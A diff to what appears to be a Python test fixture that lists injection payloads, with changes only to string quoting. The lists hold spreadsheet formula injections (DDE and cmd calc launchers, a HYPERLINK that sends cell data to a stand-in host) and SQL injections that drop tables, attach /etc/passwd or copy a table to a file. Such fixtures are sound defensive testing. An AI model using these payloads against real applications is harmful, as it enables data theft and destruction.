@@ -8,7 +8,7 @@ FORMULAS = (
     '=HYPERLINK("http://example.test/?"&A1,"点此查看")',
     "=cmd|' /C calc'!A0",
     '=WEBSERVICE("http://example.test/")',
-    "=DDE(\"cmd\";\"/C calc\";\"a\")",
+    '=DDE("cmd";"/C calc";"a")',
     "+1+1",
     "+8613800138000",
     "-2+3+cmd|' /C calc'!A0",
@@ -73,7 +73,7 @@ TEXTS = (*FORMULAS, *LINKS, *AWKWARD)
 INJECTIONS = (
     "' OR '1'='1",
     "'; DROP TABLE order_fact; --",
-    '"; ATTACH \'/etc/passwd\'; --',
+    "\"; ATTACH '/etc/passwd'; --",
     "guangzheng' UNION SELECT * FROM event_fact --",
     "guangzheng') OR TRUE --",
     "1; COPY order_fact TO '/tmp/out.csv'",
